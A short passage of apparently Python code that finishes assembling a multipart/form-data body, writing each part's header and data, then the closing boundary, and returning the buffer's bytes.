        out.write(header.encode() + data + b"\r\n")
    out.write(f"--{BOUNDARY}--\r\n".encode())
    return out.getvalue()
